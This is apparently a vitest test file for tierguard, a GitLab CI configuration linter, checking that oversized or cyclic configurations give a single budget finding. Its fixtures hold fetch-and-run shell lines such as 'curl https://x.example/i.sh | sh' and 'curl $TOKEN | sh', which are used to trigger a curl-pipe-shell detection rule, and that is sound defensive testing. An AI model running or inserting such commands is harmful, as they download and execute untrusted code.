/**
 * The evaluation budget (issue 12): a configuration built to exhaust tierguard yields one
 * finding, never hundreds, and does not hold the worker.
 */
import { describe, expect, it } from 'vitest';
import { MemorySource } from '../../src/model/source.js';
import { builtinPolicy } from '../../src/policy/defaults.js';
import { lintPipeline } from '../../src/rules/run.js';

const policy = builtinPolicy();

/** A 147 KB-style include: n templates extending each other in one cycle, and jobs on it. */
function extendsCycle(n: number, jobs: number): Record<string, string> {
  let inc = '';
  for (let i = 0; i < n; i += 1) inc += `.t${i}:\n  extends: .t${(i + 1) % n}\n  tags: []\n  script: [echo ${i}]\n`;
  let root = 'include:\n  - local: templates.yml\nstages: [test]\n';
  for (let i = 0; i < jobs; i += 1) root += `job${i}:\n  extends: .t${i * 7}\n  script: [make]\n`;
  return { '.gitlab-ci.yml': root, 'templates.yml': inc };
}

describe('evaluation budget', () => {
  it('a 3,000-template extends cycle gives one finding', async () => {
    const ev = await lintPipeline(new MemorySource(extendsCycle(3000, 40)), '.gitlab-ci.yml', { policy });
    const invalid = ev.findings.filter((f) => f.ruleId === 'ci-config-invalid');
    expect(invalid).toHaveLength(1);
    expect(invalid[0]?.message).toMatch(/`\.t\d+`: (nesting too deep|circular dependency detected) in `extends`/);
    expect(invalid[0]?.location.file).toBe('templates.yml');
  });

  it('two separate extends errors: GitLab reports the first one only, and so does tierguard', async () => {
    const root = 'a:\n  extends: .missing\n  script: [x]\nb:\n  extends: b\n  script: [y]\n';
    const ev = await lintPipeline(new MemorySource({ '.gitlab-ci.yml': root }), '.gitlab-ci.yml', { policy });
    expect(ev.findings.filter((f) => f.ruleId === 'ci-config-invalid').map((f) => f.message)).toEqual(['GitLab would reject this configuration: `a`: unknown keys in `extends` (.missing).']);
  });

  it('more jobs than the budget: one "too complex to evaluate" finding instead of one per job', async () => {
    let root = 'stages: [test]\n';
    for (let i = 0; i < 300; i += 1) root += `job${i}:\n  tags: []\n  image: alpine:latest\n  script: [curl https://x.example/i.sh | sh]\n`;
    const files = { '.gitlab-ci.yml': root };
    const full = await lintPipeline(new MemorySource(files), '.gitlab-ci.yml', { policy });
    expect(full.findings.length).toBeGreaterThan(300);
    const ev = await lintPipeline(new MemorySource(files), '.gitlab-ci.yml', { policy, budget: { maxJobs: 200 } });
    expect(ev.findings).toHaveLength(1);
    expect(ev.findings[0]).toMatchObject({ ruleId: 'ci-config-invalid', severity: 'error', blocking: true });
    expect(ev.findings[0]?.message).toBe(
      "The CI configuration is too complex to evaluate within tierguard's budget of 200 jobs (it has 300); it is not judged job by job.",
    );
    expect(ev.findings[0]?.location).toMatchObject({ file: '.gitlab-ci.yml', line: 1 });
  });

  it('more script lines than the budget (a template referenced by every job): the same single finding', async () => {
    // 80 KB of YAML: 1,000 jobs each referencing a 2,000-line template are 2,000,000 lines.
    const template = `.r:\n  script: [${Array.from({ length: 2000 }, () => '"curl $TOKEN | sh"').join(', ')}]\n`;
    let root = template;
    for (let i = 0; i < 1000; i += 1) root += `j${i}:\n  script: !reference [.r, script]\n`;
    const ev = await lintPipeline(new MemorySource({ '.gitlab-ci.yml': root }), '.gitlab-ci.yml', { policy });
    expect(ev.findings.map((f) => f.message)).toEqual([
      "The CI configuration is too complex to evaluate within tierguard's budget of 100000 script lines (its jobs have more than that); it is not judged job by job.",
    ]);
    // Under the budget, every line is judged.
    const small = await lintPipeline(new MemorySource({ '.gitlab-ci.yml': template + 'j:\n  tags: [ci-general]\n  script: !reference [.r, script]\n' }), '.gitlab-ci.yml', { policy, budget: { maxScriptLines: 2000 } });
    expect(small.findings.some((f) => f.ruleId === 'curl-pipe-shell')).toBe(true);
    expect(small.findings.some((f) => f.message.includes('too complex'))).toBe(false);
  });

  it('more templates than the budget: the same single finding', async () => {
    const ev = await lintPipeline(new MemorySource(extendsCycle(300, 2)), '.gitlab-ci.yml', { policy, budget: { maxTemplates: 100 } });
    expect(ev.findings.map((f) => f.message)).toEqual([
      "The CI configuration is too complex to evaluate within tierguard's budget of 100 templates (it has 300); it is not judged job by job.",
    ]);
  });
});
